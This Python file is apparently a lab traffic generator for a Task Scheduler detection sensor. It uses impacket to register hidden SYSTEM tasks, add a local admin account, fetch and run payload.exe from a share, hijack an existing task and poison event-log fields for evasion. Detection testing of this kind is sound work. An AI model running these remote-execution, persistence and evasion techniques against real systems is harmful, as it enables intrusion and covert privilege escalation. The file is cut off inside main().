#!/usr/bin/python3
"""tsch_client: drives Debian impacket's own MS-TSCH client code against the lab.

Each scenario is one capture of pcaps/gen/make-captures.sh. It prints one JSON
object on stdout describing what it sent (the facts the capture must hold).
Only the lab address given on the command line is ever contacted.
"""

import argparse
import base64
import hashlib
import io
import json
import struct
import sys

from impacket import smb
from impacket.smbconnection import SMBConnection
from impacket.dcerpc.v5 import transport, tsch, atsvc, sasec, epm, srvs
from impacket.dcerpc.v5.dtypes import NULL
from impacket.dcerpc.v5.rpcrt import (RPC_C_AUTHN_LEVEL_CONNECT, RPC_C_AUTHN_LEVEL_NONE, DCERPC,
                                     RPC_C_AUTHN_GSS_NEGOTIATE, RPC_C_AUTHN_LEVEL_PKT_PRIVACY,
                                     RPC_C_AUTHN_LEVEL_PKT_INTEGRITY, MSRPCBind, CtxItem,
                                     MSRPCHeader, MSRPC_ALTERCTX, MSRPC_ALTERCTX_R)

ATEXEC = "/usr/share/doc/python3-impacket/examples/atexec.py"
JOB_RUN_PERIODICALLY = 0x01  # MS-TSCH 2.3.4 AT_INFO Flags
JOB_NONINTERACTIVE = 0x10
PS_SCRIPT = "Write-Output tschsensor-lab; whoami"
PS_ENC = base64.b64encode(PS_SCRIPT.encode("utf-16le")).decode()


def task_xml(command, arguments, user_id, logon_type=None):
    esc = lambda s: s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    logon = "\n      <LogonType>%s</LogonType>" % logon_type if logon_type else ""
    return """<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.3" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo>
    <Author>LAB\\alice</Author>
    <URI>\\Microsoft\\Windows\\TschLab\\Updater</URI>
  </RegistrationInfo>
  <Triggers>
    <TimeTrigger>
      <StartBoundary>2026-01-01T00:00:00</StartBoundary>
      <Enabled>true</Enabled>
    </TimeTrigger>
  </Triggers>
  <Principals>
    <Principal id="Author">
      <UserId>%s</UserId>%s
      <RunLevel>HighestAvailable</RunLevel>
    </Principal>
  </Principals>
  <Settings>
    <Enabled>true</Enabled>
    <Hidden>true</Hidden>
    <AllowStartOnDemand>true</AllowStartOnDemand>
  </Settings>
  <Actions Context="Author">
    <Exec>
      <Command>%s</Command>
      <Arguments>%s</Arguments>
    </Exec>
  </Actions>
</Task>
""" % (esc(user_id), logon, esc(command), esc(arguments))


class TransactNmPipeTransport(transport.SMBTransport):
    """impacket's SMB transport, but each PDU that expects an answer goes out as
    one SMB_COM_TRANSACTION TRANS_TRANSACT_NMPIPE (MS-CIFS), as Windows
    clients do for RPC over named pipes.

    impacket's own SMBTransport only writes (Write AndX) and reads (Read AndX).
    DCERPC_v5 calls send() then recv() for a call; send() therefore holds the
    PDU and recv() transacts it. A PDU followed by another send() (a leading
    fragment, auth3) gets no answer and is written with Write AndX instead.
    """

    def __init__(self, *args, **kw):
        super().__init__(*args, **kw)
        self._held = None
        self.transactions = 0

    def send(self, data, forceWriteAndx=0, forceRecv=0):
        if self._held is not None:
            super().send(self._held)
        self._held = data

    def recv(self, forceRecv=0, count=0):
        if self._held is None:
            return super().recv(forceRecv, count)
        data, self._held = self._held, None
        self.transactions += 1
        conn = self.get_smb_connection()
        low = conn.getSMBServer()
        # impacket's own TransactNamedPipe writes the Name "\\PIPE\\" in ASCII
        # even with FLAGS2_UNICODE set, which impacket's server (rightly)
        # cannot parse; send it as MS-CIFS asks of SMB_COM_TRANSACTION: pad to 2, UTF-16LE.
        name = "\\PIPE\\\x00"
        if low.get_flags()[1] & smb.SMB.FLAGS2_UNICODE:
            name = b"\x00" + name.encode("utf-16le")
        setup = struct.pack("<HH", smb.SMB.TRANS_TRANSACT_NMPIPE, self._SMBTransport__handle)
        low.send_trans(self._SMBTransport__tid, setup, name, b"", data)
        return conn.transactNamedPipeRecv()

    def disconnect(self):
        if self._held is not None:
            super().send(self._held)
            self._held = None
        return super().disconnect()


def smb_dce(a, dialect=None, port=445, auth_level=RPC_C_AUTHN_LEVEL_CONNECT, rt_class=transport.SMBTransport):
    """An SMB session (chosen dialect/port) and a DCE-RPC handle on \\pipe\\atsvc."""
    if port == 139:
        conn = SMBConnection("*SMBSERVER", a.target, sess_port=139, preferredDialect=dialect, myName="TSCH-LAB-CLI")
    else:
        conn = SMBConnection(a.target, a.target, sess_port=port, preferredDialect=dialect, myName="TSCH-LAB-CLI")
    conn.login(a.user, a.password, a.domain)
    rt = rt_class(a.target, port, r"\atsvc", smb_connection=conn)
    dce = rt.get_dce_rpc()
    if auth_level != RPC_C_AUTHN_LEVEL_NONE:
        dce.set_credentials(a.user, a.password, a.domain)
    dce.set_auth_level(auth_level)
    dce.connect()
    return conn, dce


def register_sequence(dce, path, xml, logon_type, creds=()):
    """Register, run, poll, delete, as an operator would."""
    r = tsch.hSchRpcRegisterTask(dce, path, xml, tsch.TASK_CREATE, NULL, logon_type, creds)
    actual = r["pActualPath"]
    tsch.hSchRpcRun(dce, path)
    tsch.hSchRpcGetLastRunInfo(dce, path)
    tsch.hSchRpcDelete(dce, path)
    return actual[:-1] if actual and actual.endswith("\x00") else actual


def cred(user, password):
    c = tsch.TASK_USER_CRED()
    c["userId"] = user + "\x00"
    c["password"] = password + "\x00"
    c["flags"] = 0
    return c


def scen_tsch_np(a, dialect=None, port=445):
    """ITaskSchedulerService over \\pipe\\atsvc, auth level CONNECT: stubs in the clear."""
    path = "\\TschLabClear" if port == 445 else "\\TschLabNbss"
    command = "cmd.exe"
    arguments = "/c net user labsvc Lab-Pass-1 /add"
    run_as = "LAB\\alice"
    xml = task_xml(command, arguments, run_as, "Password")
    conn, dce = smb_dce(a, dialect, port)
    dce.bind(tsch.MSRPC_UUID_TSCHS)
    actual = register_sequence(dce, path, xml, tsch.TASK_LOGON_PASSWORD, (cred(run_as, a.task_password),))
    dce.disconnect()
    conn.logoff()
    return dict(interface="ITaskSchedulerService", auth_level=2, transport="ncacn_np:\\pipe\\atsvc",
                smb_dialect="0x%04x" % conn.getDialect() if isinstance(conn.getDialect(), int) else conn.getDialect(),
                smb_port=port, task_path=path, actual_path=actual, command=command, arguments=arguments,
                run_as=run_as, run_as_password=a.task_password, logon_type=tsch.TASK_LOGON_PASSWORD,
                register_flags=tsch.TASK_CREATE, task_xml=xml,
                op_sequence=["SchRpcRegisterTask", "SchRpcRun", "SchRpcGetLastRunInfo", "SchRpcDelete"])


def run_atexec(a, seed, level=None, dialect=None):
    """Runs Debian impacket's examples/atexec.py TSCH_EXEC, loaded from its installed file.

    level rebinds the module-level name atexec passes to set_auth_level (None
    keeps packet privacy); dialect makes every SMB connection it opens prefer
    that dialect (its own DCERPCTransportFactory call gets a transport with
    preferred_dialect set, nothing else of atexec changes). random is seeded so
    the task name is fixed. Returns what atexec printed and the dialect used.
    """
    import importlib.util
    import random
    import io
    import contextlib
    import types
    spec = importlib.util.spec_from_file_location("atexec", a.atexec)
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    if level is not None:
        mod.RPC_C_AUTHN_LEVEL_PKT_PRIVACY = level
    made = []
    if dialect is not None:
        def factory(binding):
            rt = transport.DCERPCTransportFactory(binding)
            rt.preferred_dialect(dialect)
            connect = rt.connect

            def connect_and_note():
                # atexec's disconnect drops the SMB connection: note its dialect now.
                r = connect()
                made.append(rt.get_smb_connection().getDialect())
                return r
            rt.connect = connect_and_note
            return rt
        mod.transport = types.SimpleNamespace(DCERPCTransportFactory=factory)
    random.seed(seed)
    cmdline = "whoami /all"
    buf = io.StringIO()
    with contextlib.redirect_stdout(buf):
        mod.TSCH_EXEC(a.user, a.password, a.domain, None, None, False, None, cmdline).play(a.target)
    used = made[0] if made else None
    return cmdline, buf.getvalue(), used


def scen_atexec_clear(a):
    """Debian impacket's examples/atexec.py TSCH_EXEC, unchanged except the RPC auth level.

    The example is loaded from its installed file; only the module-level name it
    passes to set_auth_level is rebound to CONNECT, so the whole atexec flow
    (register/run/poll/delete, then read ADMIN$\\Temp\\<name>.tmp) is on the
    wire with cleartext stubs. random is seeded so the task name is fixed.
    """
    cmdline, printed, _ = run_atexec(a, 0x75C4, RPC_C_AUTHN_LEVEL_CONNECT)
    return dict(interface="ITaskSchedulerService", auth_level=2, transport="ncacn_np:\\pipe\\atsvc",
                operator_command=cmdline, client_printed_output=printed,
                op_sequence=["SchRpcRegisterTask", "SchRpcRun", "SchRpcGetLastRunInfo", "SchRpcDelete"])


def scen_atexec_smb1(a, sealed):
    """atexec over SMB1 (NT LM 0.12): sealed as atexec does, or at level CONNECT.

    The whole flow, RPC on \\atsvc and the output read/delete on
    ADMIN$\\Temp, runs on the one SMB1 connection atexec opens.
    """
    level = None if sealed else RPC_C_AUTHN_LEVEL_CONNECT
    cmdline, printed, used = run_atexec(a, 0x5B1 if sealed else 0x5B2, level, smb.SMB_DIALECT)
    if used != smb.SMB_DIALECT:
        raise SystemExit("atexec did not run over SMB1 (dialect %r)" % (used,))
    if "tsch_lab fake output" not in printed:
        raise SystemExit("atexec did not read its output back: %r" % printed)
    return dict(interface="ITaskSchedulerService", auth_level=6 if sealed else 2, transport="ncacn_np:\\pipe\\atsvc",
                smb_dialect="NT LM 0.12", operator_command=cmdline, client_printed_output=printed,
                op_sequence=["SchRpcRegisterTask", "SchRpcRun", "SchRpcGetLastRunInfo", "SchRpcDelete"])


def ps_task():
    """The task the ncacn_ip_tcp scenarios register: hidden PowerShell with
    the encoded script, run as LocalSystem. Returns command, arguments,
    run-as SID and the task XML."""
    command = "powershell.exe"
    arguments = "-NoP -W Hidden -enc " + PS_ENC
    run_as = "S-1-5-18"
    return command, arguments, run_as, task_xml(command, arguments, run_as)


def tcp_dce(a, level, krb=False):
    """EPM ept_map on 135 for ITaskSchedulerService, then a connected (not yet
    bound) ncacn_ip_tcp DCE/RPC at level: NTLM with the user's password, or
    with krb Kerberos in SPNEGO (auth type 9), the TGT from the ccache named by
    KRB5CCNAME. Returns the binding string and the connection."""
    binding = epm.hept_map(a.target, tsch.MSRPC_UUID_TSCHS, protocol="ncacn_ip_tcp")
    rt = transport.DCERPCTransportFactory(binding)
    if krb:
        # The SPN is host/<remote name>: the DNS name, while the socket goes to the address.
        rt.setRemoteName(a.server_name)
        rt.setRemoteHost(a.target)
        rt.set_credentials(a.user, "", a.realm)
        rt.set_kerberos(True, a.kdc)
        dce = rt.get_dce_rpc()
        dce.set_credentials(*rt.get_credentials())
        dce.set_auth_type(RPC_C_AUTHN_GSS_NEGOTIATE)
    else:
        rt.set_credentials(a.user, a.password, a.domain)
        dce = rt.get_dce_rpc()
        dce.set_credentials(a.user, a.password, a.domain)
    dce.set_auth_level(level)
    dce.connect()
    return binding, dce


def scen_tcp(a, ndr64=False, level=RPC_C_AUTHN_LEVEL_CONNECT):
    """EPM ept_map on 135, then ITaskSchedulerService over ncacn_ip_tcp, auth level CONNECT (or as given)."""
    binding, dce = tcp_dce(a, level)
    if ndr64:
        dce.bind(tsch.MSRPC_UUID_TSCHS, transfer_syntax=("71710533-BEBA-4937-8319-B5DBEF9CCC36", "1.0"))
        if dce.transfer_syntax != DCERPC.NDR64Syntax:
            raise SystemExit("server did not accept NDR64")
    else:
        dce.bind(tsch.MSRPC_UUID_TSCHS)
    path = "\\Microsoft\\Windows\\TschLab\\Updater" + ("64" if ndr64 else "") + ("Signed" if level == RPC_C_AUTHN_LEVEL_PKT_INTEGRITY else "")
    command, arguments, run_as, xml = ps_task()
    actual = register_sequence(dce, path, xml, tsch.TASK_LOGON_SERVICE_ACCOUNT)
    dce.disconnect()
    return dict(interface="ITaskSchedulerService", auth_level=level, transport=binding,
                transfer_syntax="NDR64" if ndr64 else "NDR", epm_port=135, task_path=path, actual_path=actual,
                command=command, arguments=arguments, encoded_script=PS_SCRIPT, run_as=run_as,
                logon_type=tsch.TASK_LOGON_SERVICE_ACCOUNT, register_flags=tsch.TASK_CREATE, task_xml=xml,
                op_sequence=["SchRpcRegisterTask", "SchRpcRun", "SchRpcGetLastRunInfo", "SchRpcDelete"])


def alter_context_add(dce, ctx_id, iface_uuid):
    """Adds presentation context ctx_id for iface_uuid to the association with
    an alter_context that carries no auth verifier: calls on it then use the
    association's existing security context (MS-RPCE 3.3.1.5.3), so both
    interfaces' PDUs share one NTLM sealing stream."""
    call_id = dce._DCERPC_v5__callid
    dce._DCERPC_v5__callid += 1
    bind = MSRPCBind()
    bind['max_tfrag'] = bind['max_rfrag'] = 4280
    item = CtxItem()
    item['AbstractSyntax'] = iface_uuid
    item['TransferSyntax'] = DCERPC.NDRSyntax
    item['ContextID'] = ctx_id
    item['TransItems'] = 1
    bind.addCtxItem(item)
    packet = MSRPCHeader()
    packet['type'] = MSRPC_ALTERCTX
    packet['pduData'] = bind.getData()
    packet['call_id'] = call_id
    dce._transport.send(packet.get_packet())
    resp = MSRPCHeader(dce._transport.recv())
    if resp['type'] != MSRPC_ALTERCTX_R:
        raise SystemExit("alter_context refused (PDU type %d)" % resp['type'])
    return call_id


def scen_tcp_interleaved(a):
    """ITaskSchedulerService over ncacn_ip_tcp with NTLM at packet privacy, and
    srvsvc added to the same association (alter_context, no new auth):
    NetrServerGetInfo calls on context 1 come between the Task Scheduler calls
    on context 0, all sealed with one NTLM context, so a sensor that skips the
    srvsvc PDUs loses the RC4 stream of the later Task Scheduler calls."""
    binding, dce = tcp_dce(a, RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
    dce.bind(tsch.MSRPC_UUID_TSCHS)
    alter_call = alter_context_add(dce, 1, srvs.MSRPC_UUID_SRVS)
    path = "\\Microsoft\\Windows\\TschLab\\Interleaved"
    command, arguments, run_as, xml = ps_task()
    ops = []

    def on(ctx, name, f):
        dce.set_ctx_id(ctx)
        r = f()
        ops.append(name)
        return r

    r = on(0, "SchRpcRegisterTask", lambda: tsch.hSchRpcRegisterTask(dce, path, xml, tsch.TASK_CREATE, NULL,
                                                                    tsch.TASK_LOGON_SERVICE_ACCOUNT))
    actual = r["pActualPath"]
    on(1, "NetrServerGetInfo", lambda: srvs.hNetrServerGetInfo(dce, 101))
    on(0, "SchRpcRun", lambda: tsch.hSchRpcRun(dce, path))
    on(1, "NetrServerGetInfo", lambda: srvs.hNetrServerGetInfo(dce, 101))
    on(0, "SchRpcGetLastRunInfo", lambda: tsch.hSchRpcGetLastRunInfo(dce, path))
    on(0, "SchRpcDelete", lambda: tsch.hSchRpcDelete(dce, path))
    dce.disconnect()
    actual = actual[:-1] if actual and actual.endswith("\x00") else actual
    return dict(interface="ITaskSchedulerService", auth_level=6, transport=binding, transfer_syntax="NDR",
                epm_port=135, task_path=path, actual_path=actual, command=command, arguments=arguments,
                encoded_script=PS_SCRIPT, run_as=run_as, logon_type=tsch.TASK_LOGON_SERVICE_ACCOUNT,
                register_flags=tsch.TASK_CREATE, task_xml=xml, alter_context_call_id=alter_call,
                interleaved_interface="srvsvc", interleaved_context_id=1, op_sequence=ops)


def scen_tcp_krb(a):
    """EPM ept_map on 135, then ITaskSchedulerService over ncacn_ip_tcp with
    Kerberos (SPNEGO, auth type 9) at packet privacy: the TGT comes from the
    ccache named by KRB5CCNAME, impacket asks the KDC for host/<server name>."""
    binding, dce = tcp_dce(a, RPC_C_AUTHN_LEVEL_PKT_PRIVACY, krb=True)
    dce.bind(tsch.MSRPC_UUID_TSCHS)
    path = "\\Microsoft\\Windows\\TschLab\\KrbUpdater"
    command, arguments, run_as, xml = ps_task()
    actual = register_sequence(dce, path, xml, tsch.TASK_LOGON_SERVICE_ACCOUNT)
    dce.disconnect()
    return dict(interface="ITaskSchedulerService", auth_level=6, auth_type=9, transport=binding,
                spn="host/" + a.server_name, realm=a.realm, transfer_syntax="NDR", epm_port=135, task_path=path,
                actual_path=actual, command=command, arguments=arguments, encoded_script=PS_SCRIPT, run_as=run_as,
                logon_type=tsch.TASK_LOGON_SERVICE_ACCOUNT, register_flags=tsch.TASK_CREATE, task_xml=xml,
                op_sequence=["SchRpcRegisterTask", "SchRpcRun", "SchRpcGetLastRunInfo", "SchRpcDelete"])


FAULT_OPNUM = 0x42  # ITaskSchedulerService has opnums 0-19: the server answers nca_s_op_rng_error


def call_faulting_opnum(dce, ntlm_sealed):
    """Calls FAULT_OPNUM with an empty stub and reads the fault the server answers.

    impacket raises on a fault before it unseals it; a server that seals its
    faults (tsch_lab.py --seal-faults) has then moved its NTLM RC4 stream on
    while impacket's stays behind, and every later response would fail to
    open. So the fault is read here and, with NTLM, its verifier goes through
    impacket's server sealing handle as ntlm.SEAL does for a response (empty
    stub, then the checksum). Kerberos wrap tokens keep no stream."""
    dce.call(FAULT_OPNUM, b"")
    t = dce.get_rpc_transport()
    raw = t.recv(count=16)
    frag_len, auth_len = struct.unpack_from("<HH", raw, 8)
    raw += t.recv(count=frag_len - 16)
    if raw[2] != 3:
        raise SystemExit("opnum %d: PDU type %d, not a fault" % (FAULT_OPNUM, raw[2]))
    status = struct.unpack_from("<I", raw, 24)[0]
    if auth_len and ntlm_sealed:
        from impacket import ntlm
        ntlm.SEAL(dce._DCERPC_v5__flags, dce._DCERPC_v5__serverSigningKey, dce._DCERPC_v5__serverSealingKey,
                  b"", b"", 0, dce._DCERPC_v5__serverSealingHandle)
    return status, auth_len


def scen_tcp_fault(a, krb):
    """ITaskSchedulerService over ncacn_ip_tcp at packet privacy (NTLM, or
    Kerberos in SPNEGO with krb), with a call to an opnum the interface lacks
    between SchRpcRegisterTask and SchRpcRun: the lab (--seal-faults) answers
    nca_s_op_rng_error in a sealed fault, and the calls after it must still
    open (NTLM: the RC4 stream went through the fault's verifier)."""
    binding, dce = tcp_dce(a, RPC_C_AUTHN_LEVEL_PKT_PRIVACY, krb=krb)
    dce.bind(tsch.MSRPC_UUID_TSCHS)
    path = "\\Microsoft\\Windows\\TschLab\\" + ("KrbFault" if krb else "Fault")
    command, arguments, run_as, xml = ps_task()
    r = tsch.hSchRpcRegisterTask(dce, path, xml, tsch.TASK_CREATE, NULL, tsch.TASK_LOGON_SERVICE_ACCOUNT)
    actual = r["pActualPath"]
    status, fault_auth_len = call_faulting_opnum(dce, not krb)
    if not fault_auth_len:
        raise SystemExit("the fault carries no auth verifier: is the lab running with --seal-faults?")
    tsch.hSchRpcRun(dce, path)
    tsch.hSchRpcGetLastRunInfo(dce, path)
    tsch.hSchRpcDelete(dce, path)
    dce.disconnect()
    actual = actual[:-1] if actual and actual.endswith("\x00") else actual
    out = dict(interface="ITaskSchedulerService", auth_level=6, transport=binding, transfer_syntax="NDR",
               epm_port=135, task_path=path, actual_path=actual, command=command, arguments=arguments,
               encoded_script=PS_SCRIPT, run_as=run_as, logon_type=tsch.TASK_LOGON_SERVICE_ACCOUNT,
               register_flags=tsch.TASK_CREATE, task_xml=xml, fault_opnum=FAULT_OPNUM,
               fault_status="0x%08x" % status, fault_auth_len=fault_auth_len,
               op_sequence=["SchRpcRegisterTask", "unsupported", "SchRpcRun",
                            "SchRpcGetLastRunInfo", "SchRpcDelete"])
    if krb:
        out.update(auth_type=9, spn="host/" + a.server_name, realm=a.realm)
    return out


def scen_at_smb1(a, dialect=smb.SMB_DIALECT, level=RPC_C_AUTHN_LEVEL_NONE):
    """ATSVC NetrJobAdd over SMB1 \\pipe\\atsvc, no RPC authentication (level NONE); or over SMB2 with
    NTLMSSP at level CONNECT (at-smb2)."""
    conn, dce = smb_dce(a, dialect, 445, level)
    dce.bind(atsvc.MSRPC_UUID_ATSVC)
    info = atsvc.AT_INFO()
    command = "cmd.exe /c copy \\\\10.77.0.1\\share\\payload.exe C:\\Windows\\Temp\\payload.exe & C:\\Windows\\Temp\\payload.exe"
    info["JobTime"] = (13 * 3600 + 37 * 60) * 1000  # 13:37 local, in ms after midnight
    info["DaysOfMonth"] = 0
    info["DaysOfWeek"] = 0
    info["Flags"] = JOB_NONINTERACTIVE
    info["Command"] = command + "\x00"
    r = atsvc.hNetrJobAdd(dce, "\\\\10.77.0.2\x00", info)
    job = r["pJobId"]
    atsvc.hNetrJobDel(dce, "\\\\10.77.0.2\x00", job, job)
    dce.disconnect()
    dialect = conn.getDialect()
    conn.logoff()
    return dict(interface="ATSVC", auth_level=level, transport="ncacn_np:\\pipe\\atsvc",
                smb_dialect="NT LM 0.12" if dialect == smb.SMB_DIALECT else "0x%04x" % dialect, server_name="\\\\10.77.0.2",
                command=command, job_time_ms=info["JobTime"], job_flags=JOB_NONINTERACTIVE, job_id=job,
                run_as="SYSTEM (AT jobs run as LocalSystem)", op_sequence=["NetrJobAdd", "NetrJobDel"])


def scen_at_smb1_trans(a):
    """ATSVC NetrJobAdd over SMB1, every call a TransactNmPipe transaction, level NONE."""
    conn, dce = smb_dce(a, smb.SMB_DIALECT, 445, RPC_C_AUTHN_LEVEL_NONE, TransactNmPipeTransport)
    dce.bind(atsvc.MSRPC_UUID_ATSVC)
    info = atsvc.AT_INFO()
    command = "cmd.exe /c net localgroup administrators labsvc /add"
    info["JobTime"] = (23 * 3600 + 59 * 60) * 1000  # 23:59 local, in ms after midnight
    info["DaysOfMonth"] = 0
    info["DaysOfWeek"] = 0x7F  # Monday..Sunday
    info["Flags"] = JOB_RUN_PERIODICALLY | JOB_NONINTERACTIVE
    info["Command"] = command + "\x00"
    r = atsvc.hNetrJobAdd(dce, "\\\\10.77.0.2\x00", info)
    job = r["pJobId"]
    atsvc.hNetrJobDel(dce, "\\\\10.77.0.2\x00", job, job)
    rt = dce.get_rpc_transport()
    dce.disconnect()
    dialect = conn.getDialect()
    conn.logoff()
    if rt.transactions != 3:  # bind, NetrJobAdd, NetrJobDel
        raise SystemExit("expected 3 TransactNmPipe transactions, made %d" % rt.transactions)
    return dict(interface="ATSVC", auth_level=1, transport="ncacn_np:\\pipe\\atsvc",
                smb_dialect="NT LM 0.12" if dialect == smb.SMB_DIALECT else str(dialect), server_name="\\\\10.77.0.2",
                smb_rpc_commands="SMB_COM_TRANSACTION TransactNmPipe (bind, NetrJobAdd, NetrJobDel)",
                transact_nmpipe_calls=rt.transactions, command=command, job_time_ms=info["JobTime"],
                days_of_month=0, days_of_week=0x7F, job_flags=JOB_RUN_PERIODICALLY | JOB_NONINTERACTIVE, job_id=job,
                run_as="SYSTEM (AT jobs run as LocalSystem)", op_sequence=["NetrJobAdd", "NetrJobDel"])


def scen_sasec(a):
    """SASec SASetAccountInformation over SMB2 \\pipe\\atsvc, auth level CONNECT."""
    conn, dce = smb_dce(a, None, 445)
    dce.bind(sasec.MSRPC_UUID_SASEC)
    job = "TschLabJob.job"
    account = "LAB\\alice"
    sasec.hSASetAccountInformation(dce, NULL, job, account, a.task_password, sasec.TASK_FLAG_RUN_ONLY_IF_LOGGED_ON)
    dce.disconnect()
    dialect = conn.getDialect()
    conn.logoff()
    return dict(interface="SASec", auth_level=2, transport="ncacn_np:\\pipe\\atsvc", smb_dialect="0x%04x" % dialect,
                handle=None, job_name=job, run_as=account, run_as_password=a.task_password,
                job_flags=sasec.TASK_FLAG_RUN_ONLY_IF_LOGGED_ON, op_sequence=["SASetAccountInformation"])


def job_file(app, params, workdir, author, comment):
    """A Task Scheduler 1.0 .job file (MS-TSCH 2.4): the 68-byte fixed-length
    section, the running instance count, the counted UTF-16 strings, empty
    user data, 8 bytes of reserved data and no trigger."""
    # version, file version, UUID, app name length offset, trigger offset
    # (set below), error retry count and interval, idle deadline and wait
    # (minutes), NORMAL_PRIORITY_CLASS, 72 h maximum run time, exit code,
    # SCHED_S_TASK_HAS_NOT_RUN, flags; the run date (SYSTEMTIME) stays zero.
    fixed = struct.pack("<HH16sHHHHHHIIIII", 0x0501, 1, b"tschsensor-smb1j", 70, 0, 0, 0, 600, 10, 0x20, 259200000,
                        0, 0x00041303, 0)
    b = bytearray(fixed + b"\x00" * (68 - len(fixed)))
    b += struct.pack("<H", 0)  # running instance count
    for text in (app, params, workdir, author, comment):
        u = (text + "\x00").encode("utf-16le")
        b += struct.pack("<H", len(u) // 2) + u
    b += struct.pack("<H", 0)  # user data
    b += struct.pack("<H", 8) + b"\x00" * 8  # reserved data
    struct.pack_into("<H", b, 22, len(b))
    b += struct.pack("<H", 0)  # trigger count
    return bytes(b)


def scen_legacy_job_smb1(a):
    """Task Scheduler 1.0 task created the SASec way over SMB1 (NT LM 0.12):
    the .job file written into ADMIN$\\Tasks with WRITE_ANDX, then
    SASetAccountInformation on that job name over \\pipe\\atsvc of the same
    session, auth level CONNECT."""
    conn, dce = smb_dce(a, smb.SMB_DIALECT, 445)
    if conn.getDialect() != smb.SMB_DIALECT:
        raise SystemExit("server did not speak SMB1")
    job = "TschLabLegacy1.job"
    app, params, workdir = "C:\\Windows\\System32\\cmd.exe", "/c net user labsvc1 Lab-Pass-1 /add", "C:\\Windows\\Temp"
    data = job_file(app, params, workdir, "LAB\\alice", "lab legacy job over SMB1")
    conn.putFile("ADMIN$", "Tasks\\" + job, io.BytesIO(data).read)
    dce.bind(sasec.MSRPC_UUID_SASEC)
    account = "LAB\\alice"
    sasec.hSASetAccountInformation(dce, NULL, job, account, a.task_password, sasec.TASK_FLAG_RUN_ONLY_IF_LOGGED_ON)
    dce.disconnect()
    conn.logoff()
    return dict(interface="SASec", auth_level=2, transport="ncacn_np:\\pipe\\atsvc", smb_dialect="NT LM 0.12",
                smb_file_commands="NT_CREATE_ANDX, WRITE_ANDX, CLOSE", job_path="ADMIN$\\Tasks\\" + job,
                job_bytes=len(data), job_sha256=hashlib.sha256(data).hexdigest(), command=app,
                arguments=params, job_working_directory=workdir, job_name=job, run_as=account,
                run_as_password=a.task_password, job_flags=sasec.TASK_FLAG_RUN_ONLY_IF_LOGGED_ON,
                op_sequence=["SASetAccountInformation"])


def scen_hijack(a):
    """Task hijack as the SolarWinds intruders did it: read an existing task
    back (SchRpcRetrieveTask), replace its definition (SchRpcRegisterTask with
    TASK_UPDATE), run it, and put the original XML back."""
    path = "\\TschLab\\NightlyBackup"  # seeded in the lab server (tsch_lab.SEEDED_TASKS)
    command, arguments = "cmd.exe", "/c whoami /all > C:\\ProgramData\\nb.log 2>&1"
    conn, dce = smb_dce(a)
    dce.bind(tsch.MSRPC_UUID_TSCHS)
    orig = tsch.hSchRpcRetrieveTask(dce, path)["pXml"]
    orig = orig[:-1] if orig.endswith("\x00") else orig
    evil = task_xml(command, arguments, "S-1-5-18")
    tsch.hSchRpcRegisterTask(dce, path, evil, tsch.TASK_UPDATE, NULL, tsch.TASK_LOGON_NONE)
    tsch.hSchRpcRun(dce, path)
    tsch.hSchRpcRegisterTask(dce, path, orig, tsch.TASK_UPDATE, NULL, tsch.TASK_LOGON_NONE)
    dce.disconnect()
    dialect = conn.getDialect()
    conn.logoff()
    return dict(interface="ITaskSchedulerService", auth_level=2, transport="ncacn_np:\\pipe\\atsvc",
                smb_dialect="0x%04x" % dialect, task_path=path, command=command, arguments=arguments,
                register_flags=tsch.TASK_UPDATE, original_xml=orig, task_xml=evil,
                original_xml_sha256_utf8=hashlib.sha256(orig.encode()).hexdigest(),
                op_sequence=["SchRpcRetrieveTask", "SchRpcRegisterTask", "SchRpcRun", "SchRpcRegisterTask"])


# What recent Impacket options and hand-made tools put in RegistrationInfo to
# poison the event log view: an Author claiming Microsoft outside \Microsoft\,
# a right-to-left override and line breaks in it, and a Description padded far
# beyond what a viewer shows.
EVASION_AUTHOR = "Microsoft Corporation\r\n\u202eTask Scheduler"
EVASION_DESCRIPTION = "Keeps your PC up to date." + " " * 6000 + "(c) Microsoft"


def scen_log_evasion(a):
    """A task whose Author and Description hide it in the event log view."""
    path = "\\TschLab\\OneDriveStandaloneUpdate"
    command, arguments = "powershell.exe", "-NoP -W Hidden -c whoami"
    esc = lambda v: v.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\r", "&#13;")
    xml = task_xml(command, arguments, "S-1-5-18").replace(
        "<Author>LAB\\alice</Author>",
        "<Author>%s</Author>\n    <Description>%s</Description>" % (esc(EVASION_AUTHOR), esc(EVASION_DESCRIPTION)))
    conn, dce = smb_dce(a)
    dce.bind(tsch.MSRPC_UUID_TSCHS)
    tsch.hSchRpcRegisterTask(dce, path, xml, tsch.TASK_CREATE, NULL, tsch.TASK_LOGON_NONE)
    dce.disconnect()
    dialect = conn.getDialect()
    conn.logoff()
    return dict(interface="ITaskSchedulerService", auth_level=2, transport="ncacn_np:\\pipe\\atsvc",
                smb_dialect="0x%04x" % dialect, task_path=path, command=command, arguments=arguments,
                author=EVASION_AUTHOR, description_chars=len(EVASION_DESCRIPTION), register_flags=tsch.TASK_CREATE,
                task_xml=xml, op_sequence=["SchRpcRegisterTask"])


def library():
    """Which impacket this python loaded: Debian's, or another one (a venv's)."""
    import impacket
    if impacket.__file__.startswith("/usr/lib/python3/"):
        return "Debian python3-impacket"
    from importlib.metadata import version
    return "impacket %s (%s)" % (version("impacket"), impacket.__file__.rsplit("/impacket/", 1)[0])


def main():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("scenario", choices=["atexec-clear", "tsch-smb2-clear", "tcp", "tcp-ndr64", "at-smb1", "sasec-smb2", "nbss139",
                                               "atexec-smb1", "atexec-smb1-clear", "at-smb1-trans", "tcp-krb", "at-smb2",
                                               "tcp-interleaved", "tcp-integrity", "hijack", "log-evasion",
                                               "tcp-fault", "tcp-krb-fault", "legacy-job-smb1"])
    p.add_argument("--target", required=True)
    p.add_argument("--user", default="alice")
    p.add_argument("--domain", default="LAB")
    p.add_argument("--password", default="")
    p.add_argument("--realm", help="Kerberos realm (tcp-krb)")
    p.add_argument("--kdc", help="KDC address (tcp-krb)")
    p.add_argument("--server-name", help="the server's DNS name, for its SPN (tcp-krb)")
    p.add_argument("--task-password", default="Run-As-Secret-7")
    p.add_argument("--atexec", default=ATEXEC,
                   help="the examples/atexec.py whose TSCH_EXEC the atexec scenarios run (another impacket's, run "
                        "with that impacket's python)")
